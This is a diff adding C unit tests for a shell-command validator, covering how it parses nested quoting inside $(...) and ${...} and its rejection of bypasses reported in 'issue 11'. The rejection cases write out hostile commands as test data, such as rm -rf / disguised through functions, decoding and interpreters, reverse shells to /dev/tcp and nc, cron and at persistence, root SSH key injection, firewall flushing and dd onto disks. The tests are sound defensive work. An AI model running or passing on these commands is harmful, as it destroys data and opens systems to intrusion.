@@ -575,6 +575,149 @@ static void test_empty_expansion_hides_no_command(void **state) {
     cJSON_Delete(plan);
 }
 
+/* One scanner decides where $(...) and ${...} end (validate_lex.c, match_close). These spell
+ * the quoting rules bash applies inside them; a scanner that ends a construct too early or too
+ * late reads code as data or the reverse. Each accepted line was run through bash 5.2 to see
+ * where it ends. */
+static void test_nested_scanner(void **state) {
+    (void)state;
+    static const char *const fine[] = {
+        "echo \"${X:-\"}\"}\"",            /* a quoted '}' inside ${...} within quotes */
+        "echo ${X:-'}'}",                   /* a single-quoted '}' */
+        "echo \"${X:-'}'}\"",               /* bash honours '...' there inside quotes too */
+        "echo $(echo ${X:-)})",             /* a ')' inside ${...} inside $(...) */
+        "echo $(uname -r # it's\n)",        /* a quote inside a comment inside $(...) */
+        "echo \"$(echo \")\")\"",            /* a quoted ')' inside $(...) inside quotes */
+        NULL};
+    char why[256];
+    for (const char *const *c = fine; *c; c++)
+        if (cx_validate_command(*c, why, sizeof why) != 0)
+            fail_msg("wrongly rejected: %s\n  reason: %s", *c, why);
+    static const struct reject_case bad[] = {
+        {"echo \"${X:-\"}\"}\"; rm -rf /", "root directory"},
+        {"echo ${X:-'}'}; rm -rf /", "root directory"},
+        {"echo $(echo ${X:-)}; rm -rf /)", "root directory"},
+        {"echo ${X:-$(echo \"}\"; rm -rf /)}", "root directory"},
+        {"echo $(uname # it's\n); rm -rf /; echo ')'", "root directory"},
+        {"echo \"${X:-`rm -rf /`}\"", "root directory"},
+        {NULL, NULL}};
+    for (const struct reject_case *c = bad; c->cmd; c++) {
+        if (cx_validate_command(c->cmd, why, sizeof why) != CX_EREJECTED)
+            fail_msg("wrongly accepted: %s", c->cmd);
+        if (strstr(why, c->why) == NULL)
+            fail_msg("reason for '%s' is '%s', expected it to mention '%s'", c->cmd, why, c->why);
+    }
+}
+
+/* Issue 11: dangerous commands the validator accepted, each with a word its reason must hold.
+ * Every case here was accepted before the fix (checked against the old validate.c). */
+static void test_issue11_bypasses(void **state) {
+    (void)state;
+    static const struct reject_case cases[] = {
+        {"f(){ rm -rf \"$1\"; }; f /", "root directory"},
+        {"g() { sudo rm -rf \"$@\"; }; g /etc", "/etc"},
+        {"f(){ \"$@\"; }; f rm -rf /", "root directory"},
+        {"alias x='rm -rf ~'; x", "home directory"},
+        {"xargs rm -rf <<< /", "root directory"},
+        {"echo / | xargs rm -rf", "rm -rf"},
+        {"echo / | xargs -I % sh -c 'rm -rf %'", "xargs"},
+        {"echo cm0gLXJmIC8K | base64 -d > /tmp/x.sh && bash /tmp/x.sh", "decoded earlier"},
+        {"echo 726d202d7266202f | xxd -r -p > /tmp/a && bash /tmp/a", "decoded earlier"},
+        {"perl -e 'system(\"rm -rf /\")'", "root directory"},
+        {"python3 -c 'import os; os.system(\"rm -rf /\")'", "root directory"},
+        {"python3 -c 'import shutil; shutil.rmtree(\"/\")'", "rmtree"},
+        {"node -e 'require(\"child_process\").execSync(\"rm -rf /\")'", "root directory"},
+        {"awk 'BEGIN { system(\"rm -rf /\") }'", "root directory"},
+        {"echo \"rm -rf /\" | at now", "root directory"},
+        {"at now <<< 'rm -rf /'", "root directory"},
+        {"at now <<EOF\nrm -rf /\nEOF", "root directory"},
+        {"at -f /tmp/x.sh now", "at -f"},
+        {"sudo apt-get install -y --allow-unauthenticated nginx", "signature"},
+        {"sudo apt-get install --force-yes -y nginx", "force-yes"},
+        {"echo 'deb [trusted=yes] http://x.example/ stable main' | sudo tee /etc/apt/sources.list.d/x.list",
+         "trusted"},
+        {"echo 'APT::Get::AllowUnauthenticated \"true\";' | sudo tee /etc/apt/apt.conf.d/99x",
+         "signature"},
+        {"sudo tee /etc/apt/sources.list.d/x.list <<'EOF'\ndeb [trusted=yes] http://x/ ./\nEOF",
+         "trusted"},
+        {"echo '* * * * * rm -rf /' | crontab -", "crontab"},
+        {"echo '* * * * * root /tmp/x' | sudo tee /etc/cron.d/x", "crontab"},
+        {"echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys", "authorized_keys"},
+        {"nc -e /bin/sh 10.0.0.1 4444", "remote shell"},
+        {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/dev/tcp"},
+        {"sudo -s", "interactive root shell"},
+        {"sudo -i", "interactive root shell"},
+        {"su", "interactive root shell"},
+        {"sudo iptables -F", "firewall"},
+        {"sudo ufw disable", "firewall"},
+        {"sudo systemctl mask ssh", "ssh"},
+        {"sudo systemctl disable ssh", "ssh"},
+        {"sudo userdel -r ubuntu", "userdel"},
+        {"kill -9 1", "PID 1"},
+        {"sudo truncate -s0 /var/lib/dpkg/status", "package database"},
+        {"find / -exec chmod 777 {} +", "root directory"},
+        {"sh -c \"$(printf '%s' 'rm -rf /')\"", "variable or substitution"},
+        {"source /dev/stdin <<< 'rm -rf /'", "root directory"},
+        {"history -c", "history"},
+        {"flock /tmp/l rm -rf /", "root directory"},
+        /* Found while probing the fixes: code on an interpreter's stdin, scripts written and
+         * then run, a cron directory as a copy target, other apt trust options. */
+        {"python3 - <<< 'import os; os.system(\"rm -rf /\")'", "root directory"},
+        {"python3 <<EOF\nimport shutil; shutil.rmtree('/')\nEOF", "rmtree"},
+        {"echo 'rm -rf /' > /tmp/x.sh && bash /tmp/x.sh", "root directory"},
+        {"cat > /tmp/x.sh <<EOF\nrm -rf /\nEOF\nbash /tmp/x.sh", "written earlier"},
+        {"echo 'rm -rf ~' >> ~/.bashrc", "home directory"},
+        {"sudo cp x /etc/cron.d/", "crontab"},
+        {"echo 'deb [allow-insecure=yes] http://x/ ./' | sudo tee /etc/apt/sources.list.d/x.list",
+         "unsigned"},
+        {"ruby -e '%x(rm -rf /)'", "root directory"},
+        /* validate-3 (fuzz/corpus/validate/validate-3): bash refuses a function definition
+         * behind an empty expansion as a syntax error; it is refused here too, rather than
+         * read as a command "f" and a list. */
+        {"Z9=; $Z9 f() { rm -rf $1; }; f /", "syntax error"},
+        {"echo foo(bar)", "syntax error"},
+        {NULL, NULL}};
+    char why[256];
+    for (const struct reject_case *c = cases; c->cmd; c++) {
+        if (cx_validate_command(c->cmd, why, sizeof why) != CX_EREJECTED)
+            fail_msg("wrongly accepted: %s", c->cmd);
+        if (strstr(why, c->why) == NULL)
+            fail_msg("reason for '%s' is '%s', expected it to mention '%s'", c->cmd, why, c->why);
+    }
+    /* Their ordinary relatives stay accepted. */
+    static const char *const fine[] = {
+        "f() { sudo apt-get install -y \"$1\"; }; f nginx",
+        "echo nginx redis | xargs sudo apt-get install -y",
+        "echo \"systemctl restart nginx\" | at now + 5 minutes",
+        "python3 -c 'import sys; print(sys.version)'",
+        "perl -pi -e 's/listen 80/listen 8080/' /etc/nginx/sites-available/app",
+        "echo \"deb [signed-by=/usr/share/keyrings/x.gpg] https://x.example/ stable main\" | sudo tee /etc/apt/sources.list.d/x.list",
+        "sudo systemctl restart ssh",
+        "sudo ufw allow 22/tcp",
+        "sudo -u postgres psql -c 'SELECT 1'",
+        "crontab -l",
+        "eval \"$(ssh-agent -s)\"",
+        "sudo bash <<EOF\napt-get update\nEOF",
+        "echo 'export PATH=$PATH:/usr/local/go/bin' >> ~/.bashrc && source ~/.bashrc",
+        "python3 <<EOF\nprint('hi')\nEOF",
+        "a=(nginx redis); sudo apt-get install -y \"${a[@]}\"",
+        "for ((i=0; i<3; i++)); do echo $i; done",
+        "case \"$1\" in (start) sudo systemctl start nginx;; esac",
+        NULL};
+    for (const char *const *c = fine; *c; c++)
+        if (cx_validate_command(*c, why, sizeof why) != 0)
+            fail_msg("wrongly rejected: %s\n  reason: %s", *c, why);
+    /* A function defined by one element of a plan is checked where a later one calls it. */
+    struct cx_validation v;
+    cJSON *plan = make_array("[\"wipe() { sudo dd if=/dev/zero of=\\\"$1\\\"; }\", \"wipe /dev/sda\"]");
+    assert_non_null(plan);
+    assert_int_equal(cx_validate_commands(plan, &v), CX_EREJECTED);
+    assert_int_equal(v.n_rejected, 1);
+    assert_non_null(strstr(v.reasons[0], "commands[1] 'wipe /dev/sda': dd onto a block device"));
+    cx_validation_clear(&v);
+    cJSON_Delete(plan);
+}
+
 static cJSON *g_torture_arr;
 
 static int validate_scenario(void *ctx) {
@@ -607,6 +750,8 @@ int main(void) {
         cmocka_unit_test(test_validate_commands),
         cmocka_unit_test(test_validate_commands_torture),
         cmocka_unit_test(test_empty_expansion_hides_no_command),
+        cmocka_unit_test(test_nested_scanner),
+        cmocka_unit_test(test_issue11_bypasses),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
